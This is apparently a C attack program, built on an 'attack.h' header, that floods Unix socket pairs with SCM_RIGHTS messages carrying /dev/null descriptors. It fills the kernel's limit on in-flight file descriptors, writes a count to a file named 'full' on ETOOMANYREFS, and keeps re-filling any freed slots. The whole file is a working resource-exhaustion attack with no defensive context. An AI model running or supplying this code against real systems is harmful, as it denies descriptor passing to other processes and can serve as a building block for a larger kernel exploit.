// Keeps as many descriptors in flight as the kernel lets it: sends them over socket pairs that nobody reads. Makes the file `full` once no more can be
// sent, and goes on trying, so that what others read is replaced at once.
#include "attack.h"
#include <sys/resource.h>

#define AT_ONCE 253 // SCM_MAX_FD

int main(void)
{
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    union {
        struct cmsghdr header;
        char room[CMSG_SPACE(AT_ONCE * sizeof(int))];
    } control = {0};
    char byte = 'x';
    struct iovec data = {&byte, 1};
    struct msghdr message = {
        .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    control.header = (struct cmsghdr){
        .cmsg_len = CMSG_LEN(AT_ONCE * sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
    int null = open("/dev/null", O_RDONLY);
    for (int index = 0; index < AT_ONCE; index++)
        memcpy(CMSG_DATA(&control.header) + index * sizeof(int), &null, sizeof null);
    long sent = 0;
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends))
        die("socketpair");
    for (;;) {
        if (sendmsg(ends[0], &message, MSG_DONTWAIT) == 1) {
            sent++;
        } else if (errno == EAGAIN || errno == ENOBUFS) {
            if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends))
                die("socketpair");
        } else if (errno == ETOOMANYREFS) {
            int full = open("full", O_CREAT | O_WRONLY, 0644);
            dprintf(full, "%ld\n", sent * AT_ONCE);
            close(full);
            usleep(100);
        } else {
            die("sendmsg");
        }
    }
}
